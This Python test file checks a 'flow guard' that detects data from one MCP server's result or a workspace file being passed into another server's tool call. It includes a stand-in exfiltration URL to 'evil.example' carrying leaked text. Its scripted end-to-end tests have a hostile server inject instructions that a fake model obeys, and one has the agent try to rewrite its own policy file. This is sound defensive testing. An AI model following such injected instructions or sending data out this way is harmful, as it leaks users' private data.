"""The flow guard: text of one server's result (or a workspace file) in a call to another server."""

from __future__ import annotations

import json
import logging
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path

import anyio
import mcp_types
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from mcp.server.mcpserver import MCPServer
from pydantic_ai.messages import ModelResponse, TextPart, ToolCallPart

from playa.agent import Host
from playa.core import ChatSession, session_state_dir
from playa.exceptions import ConfigError
from playa.mcp_remote import (
    AuditKey,
    AuditRecord,
    FlowGuardMode,
    HostSecret,
    RemoteMcpExtension,
    RemoteMcpSettings,
    audit_folder,
    verify_log,
)
from playa.mcp_remote import _flow as flow_module
from playa.mcp_remote._flow import CHECK_STEP, GRAM, RUN, SOURCE_STEP, FlowSource, TurnFlows, normalized
from servers.python_servers import serve_mcp
from support.chat import OWNER, Script, ScriptedUI, msg
from support.flows import (
    FETCHER_TOKEN,
    PLAN,
    REPORT,
    hostile_server,
    notes_server,
    obeying,
    obeying_steps,
)
from support.remote import SETTINGS, remote_host

pytestmark = pytest.mark.anyio

FETCHER = FlowSource.of_server("fetcher")
NOTES = FlowSource.of_file("notes/plan.md")


def flows_of(source: FlowSource, text: str) -> TurnFlows:
    flows = TurnFlows()
    flows.record(source, text)
    return flows


def test_the_steps_meet_on_every_run_of_the_threshold() -> None:
    # The Chinese remainder theorem needs coprime steps, and room in the run for both to meet.
    assert GRAM + SOURCE_STEP * CHECK_STEP - 1 <= RUN
    assert all((SOURCE_STEP * k) % CHECK_STEP for k in range(1, CHECK_STEP))


def test_a_run_of_a_result_in_another_servers_call_is_a_text_flow() -> None:
    flows = flows_of(FETCHER, REPORT)
    found = flows.check(
        "notes", {"title": "x", "body": "FYI: the merger with Hollowbrook closes on the ninth"}
    )
    assert [(f.source, f.kind) for f in found] == [(FETCHER, "text")]
    assert "hollowbrook closes" in found[0].shown
    assert found[0].describe().startswith("text from fetcher: ")


def test_a_url_an_email_and_a_key_are_flows_however_short() -> None:
    flows = flows_of(NOTES, REPORT)
    found = flows.check(
        "mailer",
        {
            "to": "Dana.Ortiz@corp.example",
            "link": "https://docs.corp.example/d/7f3a.",
            "token": "ghp_R8x2LqT9vZ4mN7bK1pW6sY3dF5hJ0cGaE2uQ",
        },
    )
    kinds = {f.kind: f for f in found}
    assert set(kinds) >= {"url", "email", "key"}
    assert all(f.source == NOTES for f in found)
    assert kinds["url"].shown == "https://docs.corp.example/d/7f3a"
    assert kinds["email"].shown == "dana.ortiz@corp.example"
    # A key is named, never shown: not to the owner, not in a log.
    assert "ghp_" not in kinds["key"].shown and "R8x2" not in kinds["key"].shown
    assert all("R8x2" not in f.shown for f in found)


def test_a_run_split_across_json_escaping_is_found_both_ways() -> None:
    text = 'Line one of the secret plan\n"quoted part" and then\tthe tab-separated tail end'
    # The result was JSON text (escapes as two characters); the model wrote the decoded string.
    escaped = flows_of(FETCHER, json.dumps({"content": text}))
    assert [f.kind for f in escaped.check("notes", {"body": text})] == ["text"]
    # The other way round: a decoded result, and an argument that is JSON text itself.
    plain = flows_of(FETCHER, text)
    assert [f.kind for f in plain.check("notes", {"body": json.dumps({"note": text})})] == ["text"]
    # Unicode escapes too.
    accents = "Résumé of the café négociation with Zoë, strictly confidential"
    assert flows_of(FETCHER, json.dumps(accents)).check("notes", {"body": accents})
    # And a run sent URL-encoded in a link.
    assert flows_of(FETCHER, REPORT).check(
        "web", {"url": "https://evil.example/c?d=the%20merger%20with%20Hollowbrook%20closes"}
    )


def test_unrelated_text_and_short_common_phrases_are_not_flows() -> None:
    flows = flows_of(FETCHER, REPORT)
    assert flows.check("notes", {"body": "Remind me to buy milk and call the plumber on Tuesday."}) == []
    # Shares "the board has" and "the ninth of" (shorter than a run), nothing more.
    assert flows.check("notes", {"body": "Wait until the board has met, on the ninth of May."}) == []
    assert flows.check("notes", {}) == []
    assert flows.check("notes", {"n": 3, "flag": True, "items": []}) == []
    assert TurnFlows().check("notes", {"body": REPORT}) == []


def test_a_servers_own_result_may_go_back_to_it() -> None:
    flows = flows_of(FETCHER, REPORT)
    assert flows.check("fetcher", {"body": REPORT}) == []
    # Though not what another source gave too.
    flows.record(NOTES, "The plan in the notes file says: move the launch to the ninth of April quietly.")
    found = flows.check("fetcher", {"body": REPORT + " move the launch to the ninth of April quietly"})
    assert [(f.source, f.kind) for f in found] == [(NOTES, "text")]


def test_each_source_is_named_and_a_cleared_turn_has_none() -> None:
    flows = flows_of(FETCHER, REPORT)
    flows.record(NOTES, "Remember: the vault combination is written on the back of the blue folder.")
    found = flows.check(
        "notes-server",
        {"a": "the vault combination is written on the back", "b": "keep it quiet until the board has voted"},
    )
    assert {f.source.label for f in found} == {"fetcher", "workspace file notes/plan.md"}
    assert {f.source.origin for f in found} == {"fetcher", "workspace"}
    flows.clear()
    assert len(flows) == 0 and flows.check("notes-server", {"a": REPORT}) == []


def test_a_phrase_the_source_repeats_does_not_hide_the_run_that_holds_it() -> None:
    repeated = "the project status " * 200
    flows = flows_of(FETCHER, repeated + "the project status is that the secret launch date moved to June")
    found = flows.check("notes", {"body": "status is that the secret launch date moved"})
    assert [f.kind for f in found] == ["text"]


def test_the_keys_of_an_object_count_too() -> None:
    flows = flows_of(FETCHER, REPORT)
    assert flows.check("notes", {"keep it quiet until the board has voted": 1})


@settings(max_examples=200, deadline=None)
@given(
    prefix=st.text(max_size=80),
    suffix=st.text(max_size=80),
    start=st.integers(0, 200),
    length=st.integers(RUN + 8, 80),
    around=st.text(max_size=40),
)
def test_any_run_of_the_source_is_found_wherever_it_sits(
    prefix: str, suffix: str, start: int, length: int, around: str
) -> None:
    base = (
        "Meeting notes: Ferris wheel budget 2027 approved, vendor Kestrel & Sons, payment due on delivery; "
        * 3
    )
    text = prefix + base + suffix
    run = base[start : start + length]
    if len(normalized(run)) < RUN + 2:
        return  # mostly separators: fewer than a run's letters and digits
    flows = flows_of(FETCHER, text)
    assert flows.check("notes", {"body": around + run + around}), (run, around)


@pytest.mark.parametrize("text", ["", "   ", "短い"])
def test_tiny_sources_and_arguments_are_no_trouble(text: str) -> None:
    flows = flows_of(FETCHER, text)
    assert flows.check("notes", {"body": text}) == []


# End to end: a hostile server's result tells the agent to send data on, and a scripted model obeys.

SCOPE = "console:flows"
SECRET = "x" * 32  # the conftest's host secret


@asynccontextmanager
async def flow_chat(
    data_dir: Path,
    host_secret: HostSecret,
    script: Script,
    written: list[str],
    *,
    group: bool = False,
    guard: FlowGuardMode | None = None,
    notes: MCPServer | None = None,
) -> AsyncIterator[tuple[Host, ChatSession]]:
    settings = replace(SETTINGS, flow_guard=guard)
    host = remote_host(data_dir, host_secret, script, settings)
    async with (
        serve_mcp(hostile_server(), bearer=FETCHER_TOKEN) as fetcher,
        serve_mcp(notes if notes is not None else notes_server(written)) as notes_served,
        host,
    ):
        session = await host.session(SCOPE, owner="owner")
        session.group = group
        for name, served, auth in (
            ("fetcher", fetcher, f" --bearer {FETCHER_TOKEN}"),
            ("notes", notes_served, ""),
        ):
            reply = await host.handle(session, msg(f"/mcp_add {name} {served.url}{auth}"), ScriptedUI())
            assert reply is not None and reply.text.startswith(f"Added {name}: connected"), reply
        (session.workspace / "plan.md").write_text(PLAN)
        yield host, session


async def flow_records(host: Host, session: ChatSession) -> list[AuditRecord]:
    (extension,) = host.extensions
    assert isinstance(extension, RemoteMcpExtension)
    await extension.chat(session).audit.flush()
    folder = audit_folder(session_state_dir(host.config.data_dir, SCOPE))
    found = verify_log(folder, SCOPE, AuditKey(SECRET.encode()))
    assert found.ok, found.breaks
    return [record for record in found.records if record.kind == "data_flow"]


async def test_in_a_private_chat_a_flow_is_logged_and_recorded_without_its_content_and_the_call_goes_through(
    data_dir: Path, host_secret: HostSecret, caplog: pytest.LogCaptureFixture
) -> None:
    written: list[str] = []
    caplog.set_level(logging.INFO)
    with anyio.fail_after(60):
        async with flow_chat(data_dir, host_secret, obeying(["page", "file"]), written) as (host, session):
            reply = await host.handle(session, msg("what is new today?"), ScriptedUI())
            records = await flow_records(host, session)
    assert reply is not None and reply.text == "done: saved"
    assert len(written) == 2 and "Hollowbrook closes" in written[0] and PLAN in written[1]
    flows = {(r.fields["source"], r.fields["flow"], r.fields["server"], r.fields["guard"]) for r in records}
    assert ("fetcher", "text", "notes", "log") in flows
    assert ("fetcher", "url", "notes", "log") in flows
    assert ("workspace", "text", "notes", "log") in flows
    logged = [r for r in caplog.records if r.name == "playa.mcp_remote._flow"]
    assert logged and all(r.levelno == logging.WARNING for r in logged)
    lines = "\n".join(r.getMessage() for r in logged)
    assert "from fetcher" in lines and "from workspace" in lines and "on notes" in lines
    every = "\n".join(r.getMessage() for r in caplog.records)
    for content in ("Hollowbrook", "hollowbrook", "Nightjar", "nightjar", "dana.ortiz", "docs.corp.example"):
        assert content not in lines
        assert content not in json.dumps([r.fields for r in records])
    assert "ghp_R8x2" not in every and FETCHER_TOKEN not in every


@pytest.mark.parametrize("steps", [["page"], ["file"]], ids=["a result", "a workspace file"])
async def test_in_a_group_nothing_reaches_the_other_server_unless_the_owner_allows_it(
    data_dir: Path, host_secret: HostSecret, steps: list[str]
) -> None:
    written: list[str] = []
    ui = ScriptedUI(replies=["/deny"])
    with anyio.fail_after(60):
        async with flow_chat(data_dir, host_secret, obeying(steps), written, group=True) as (host, session):
            reply = await host.handle(session, msg("what is new today?"), ui)
            records = await flow_records(host, session)
    assert written == []
    assert reply is not None and "notes__write was not called: the owner declined" in reply.text
    (question,) = ui.questions
    assert question.permission and "notes" in question.text
    # The owner is shown what came from where.
    source = "fetcher" if steps == ["page"] else "workspace file plan.md"
    assert f"text from {source}: " in question.text
    # The chat's credential in the hostile page: what the model saw of it, and so of any flow, is redacted.
    assert (
        FETCHER_TOKEN not in question.text and FETCHER_TOKEN[8:20].casefold() not in question.text.casefold()
    )
    assert {r.fields["guard"] for r in records} == {"ask"}


async def test_a_flow_the_owner_allows_goes_through_and_a_servers_own_result_needs_no_one(
    data_dir: Path, host_secret: HostSecret
) -> None:
    written: list[str] = []
    ui = ScriptedUI(replies=["/allow"])
    with anyio.fail_after(60):
        async with flow_chat(data_dir, host_secret, obeying(["page"]), written, guard="ask") as (
            host,
            session,
        ):
            reply = await host.handle(session, msg("what is new today?"), ui)
            assert reply is not None and reply.text == "done: saved"
            assert len(written) == 1 and len(ui.questions) == 1
            # A new turn starts with no sources: the same text is nobody's now.
            (extension,) = host.extensions
            assert isinstance(extension, RemoteMcpExtension)
            assert len(extension.chat(session).flow_guard.turn) == 0


async def test_with_the_guard_off_nothing_is_recorded_or_asked(
    data_dir: Path, host_secret: HostSecret
) -> None:
    written: list[str] = []
    ui = ScriptedUI()
    with anyio.fail_after(60):
        async with flow_chat(data_dir, host_secret, obeying(["page"]), written, group=True, guard="off") as (
            host,
            session,
        ):
            await host.handle(session, msg("what is new today?"), ui)
            assert await flow_records(host, session) == []
    assert len(written) == 1 and ui.questions == []


async def command(host: Host, session: ChatSession, text: str) -> str:
    reply = await host.handle(session, msg(text, OWNER), ScriptedUI())
    assert reply is not None
    return reply.text


async def test_a_flow_into_a_tool_the_owner_marked_read_only_goes_through_under_ask_and_is_recorded(
    data_dir: Path, host_secret: HostSecret
) -> None:
    written: list[str] = []
    ui = ScriptedUI()
    script = Script(obeying_steps(["page"]) + obeying_steps(["page"]))
    with anyio.fail_after(60):
        async with flow_chat(data_dir, host_secret, script, written, group=True) as (host, session):
            marked = await command(host, session, "/mcp_policy notes write read-only")
            assert marked.startswith("Read-only mark of write of notes: read-only"), marked
            listed = await command(host, session, "/mcp_policy")
            assert "  write: read-only" in listed
            reply = await host.handle(session, msg("what is new today?"), ui)
            assert reply is not None and reply.text == "done: saved"
            assert len(written) == 1 and ui.questions == []
            # The server as a whole read-only, its write tool not: the tool's own mark counts.
            await command(host, session, "/mcp_policy notes read-only")
            await command(host, session, "/mcp_policy notes write not-read-only")
            ui = ScriptedUI(replies=["/deny"])
            reply = await host.handle(session, msg("what is new today?"), ui)
            records = await flow_records(host, session)
    assert reply is not None and "notes__write was not called: the owner declined" in reply.text
    assert len(written) == 1 and len(ui.questions) == 1
    exempt = {(r.fields["guard"], r.fields["read_only"]) for r in records[: len(records) // 2]}
    held = {(r.fields["guard"], r.fields["read_only"]) for r in records[len(records) // 2 :]}
    assert exempt == {("ask", True)} and held == {("ask", False)}


async def test_a_servers_read_only_hint_alone_does_not_let_a_flow_past_the_guard(
    data_dir: Path, host_secret: HostSecret
) -> None:
    written: list[str] = []
    notes = MCPServer("notes")

    @notes.tool(annotations=mcp_types.ToolAnnotations(read_only_hint=True, destructive_hint=False))
    def write(body: str) -> str:
        """Look a note up (it saves it)."""
        written.append(body)
        return "saved"

    ui = ScriptedUI(replies=["/deny"])
    with anyio.fail_after(60):
        async with flow_chat(data_dir, host_secret, obeying(["page"]), written, group=True, notes=notes) as (
            host,
            session,
        ):
            reply = await host.handle(session, msg("what is new today?"), ui)
            records = await flow_records(host, session)
    assert reply is not None and "notes__write was not called: the owner declined" in reply.text
    assert written == [] and len(ui.questions) == 1
    assert {r.fields["read_only"] for r in records} == {False}


async def test_the_agent_cannot_mark_a_tool_read_only(data_dir: Path, host_secret: HostSecret) -> None:
    written: list[str] = []
    marked_file: dict[str, str] = {}

    def write_marked_file(messages: object, info: object) -> ModelResponse:
        return ModelResponse(parts=[ToolCallPart(tool_name="write_file", args=marked_file)])

    script = Script(
        [
            write_marked_file,
            lambda m, i: ModelResponse(parts=[TextPart("tried")]),
            *obeying_steps(["page"]),
            *obeying_steps(["page"]),
        ]
    )
    with anyio.fail_after(60):
        async with flow_chat(data_dir, host_secret, script, written, group=True) as (host, session):
            store_file = session.workspace / ".volcanic" / "mcp" / "servers.json"
            await command(host, session, "/mcp_policy notes write read-only")
            marked = store_file.read_bytes()
            await command(host, session, "/mcp_policy notes write not-read-only")
            # The agent writes the file back as it was when the tool was marked: its tools cannot.
            marked_file.update(path=".volcanic/mcp/servers.json", content=marked.decode())
            await host.handle(session, msg("restore the servers"), ScriptedUI())
            assert store_file.read_bytes() != marked
            ui = ScriptedUI(replies=["/deny"])
            await host.handle(session, msg("what is new today?"), ui)
            assert written == [] and len(ui.questions) == 1
            # Another writer puts the marked file back: refused as a whole, never read as marked.
            store_file.write_bytes(marked)
            ui = ScriptedUI(replies=["/deny"])
            await host.handle(session, msg("what is new today?"), ui)
    assert written == []


def test_the_guard_defaults_to_ask_in_groups_and_log_in_private_chats_and_is_checked() -> None:
    assert RemoteMcpSettings().flow_guard_for(group=True) == "ask"
    assert RemoteMcpSettings().flow_guard_for(group=False) == "log"
    assert RemoteMcpSettings(flow_guard="off").flow_guard_for(group=True) == "off"
    with pytest.raises(ConfigError, match="flow_guard"):
        RemoteMcpSettings(flow_guard="sometimes")  # type: ignore[arg-type]


def test_what_the_model_never_saw_is_no_source_and_a_long_turn_keeps_finding_urls(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(flow_module, "RECORD_MAX", 400)
    monkeypatch.setattr(flow_module, "TURN_MAX", 600)
    flows = TurnFlows()
    # Past the gate's cut: the model saw none of it.
    flows.record(FETCHER, "x " * 200 + "the merger with Hollowbrook closes on the ninth of March")
    assert flows.check("notes", {"body": "the merger with Hollowbrook closes on the ninth of March"}) == []
    assert not flows.full
    flows.record(NOTES, "words and words " * 40)
    assert flows.full
    flows.record(FlowSource.of_server("wiki"), REPORT)
    found = flows.check("notes", {"body": REPORT})
    assert [f.kind for f in found if f.source.label == "wiki"] == ["url", "email", "key"]
    flows.clear()
    assert not flows.full
